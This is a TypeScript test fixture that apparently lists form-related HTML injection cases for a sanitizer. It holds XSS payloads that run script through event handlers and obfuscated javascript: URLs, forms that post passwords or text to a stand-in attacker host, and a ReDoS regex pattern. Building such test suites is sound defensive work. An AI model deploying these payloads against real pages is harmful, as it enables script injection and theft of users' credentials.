// What asks a reader for something, or sends something for them.
import { type Case, EVIL, RUN } from './case.ts';

const TYPES = (
  'text password hidden submit image reset button file checkbox radio email url search tel number range ' +
  'date color'
).split(' ');

export const FORMS: readonly Case[] = [
  ...TYPES.map((type): Case => [`a field: ${type}`, `<input type=${type} autofocus onfocus=${RUN} name=x>`]),
  ['a form', `<form action="${EVIL}/"><input name=password><input type=submit></form>`],
  ['a form in capitals', `<FORM ACTION="${EVIL}/"><INPUT TYPE=PASSWORD></FORM>`],
  ['a form with a hidden script', `<form action="&Tab;java&#10;script:${RUN}"><button>a</button></form>`],
  ['a form that posts', `<form method=post enctype="text/plain" action="${EVIL}/"><button>a</button></form>`],
  ['a form for a dialog', `<form method=dialog><button onclick=${RUN}>a</button></form>`],
  ['a form with a target', `<form target=_blank action="${EVIL}/"><button>a</button></form>`],
  ['a form without an end', `<form action="${EVIL}/"><p>a`],
  ['a form without a start', `</form><input type=submit formaction="${EVIL}/">`],
  ['a form in a form', `<form><form action="${EVIL}/"><button>a</button></form></form>`],
  ['a form across cells', `<table><tr><td><form action="${EVIL}/"><td><button>a</button></table>`],
  ['a form that resets', `<form onreset=${RUN}><input type=reset></form>`],
  ['a form that checks', `<form><input required oninvalid=${RUN} autofocus><button>a</button></form>`],
  ['a form with a picture of a script', `<form><input type=image src="javascript:${RUN}"></form>`],
  ['a form with a picture that fails', `<form><input type=image src=x onerror=${RUN}></form>`],
  ['a form’s picture from elsewhere', `<input type=image src="${EVIL}/1.png">`],
  ['a form of isindex', `<isindex action="javascript:${RUN}" type=image src=x>`],
  ['a form of isindex with a prompt', `<isindex prompt="a" action="${EVIL}/">`],
  ['a form’s key', `<keygen autofocus onfocus=${RUN} challenge=x name=y>`],
  ['a button', `<button onclick=${RUN}>a</button>`],
  ['a button with a form elsewhere', `<form id=x></form><button form=x formaction="${EVIL}/">a</button>`],
  [
    'a button with a method',
    `<form><button formmethod=post formtarget=_blank formaction="${EVIL}/">a</button>`,
  ],
  ['a button in a link', `<a href="/1"><button onclick=${RUN}>a</button></a>`],
  ['a button with a focus', `<button autofocus onfocus=${RUN}>a</button>`],
  ['a field of text', `<textarea autofocus onfocus=${RUN}>a</textarea>`],
  ['a field of text that is not closed', `<form action="${EVIL}/"><textarea name=x>`],
  ['a field with a direction', `<input name=x dirname=y autofocus onbeforeinput=${RUN}>`],
  ['a field that is filled in', `<input autocomplete=cc-number name=card onchange=${RUN}>`],
  ['a field with a pattern', `<input pattern="(a+)+$" value="${'a'.repeat(40)}!">`],
  ['a choice', `<select autofocus onfocus=${RUN}><option>a</select>`],
  ['a choice of one’s own style', `<select><button>a</button><option><img src=x onerror=${RUN}></select>`],
  ['a group of choices', `<select><optgroup label="<script>${RUN}</script>"><option>a</select>`],
  ['a list of values', `<input list=x><datalist id=x><option label="<b>" value="a"></datalist>`],
  ['a label', `<label for=x onclick=${RUN}>a</label><input id=x>`],
  ['a fieldset', `<fieldset onclick=${RUN}><legend onclick=${RUN}>a</legend><input></fieldset>`],
  ['an output', `<form oninput=${RUN}><input><output onclick=${RUN}>a</output></form>`],
  ['a meter and a progress', `<meter onclick=${RUN} value=1>a</meter><progress onclick=${RUN}>b</progress>`],
  ['a menu', `<menu type=context id=x><menuitem label=a onclick=${RUN}></menu><p contextmenu=x>b</p>`],
  ['a command', `<command onclick=${RUN} label=a>`],
  ['an editable text', `<p contenteditable onfocus=${RUN} oninput=${RUN}>a</p>`],
  ['an editable text with a focus', `<p contenteditable=plaintext-only autofocus onfocus=${RUN}>a</p>`],
  ['a text with a focus', `<p tabindex=0 autofocus onfocus=${RUN}>a</p>`],
  ['a text with a key', `<p accesskey=x onclick=${RUN}>a</p><a href="javascript:${RUN}" accesskey=y>b</a>`],
  ['a text that can be dragged', `<p draggable=true ondragstart=${RUN}>a</p>`],
  ['a text with a keyboard', `<p contenteditable inputmode=none enterkeyhint=send onkeydown=${RUN}>a</p>`],
];
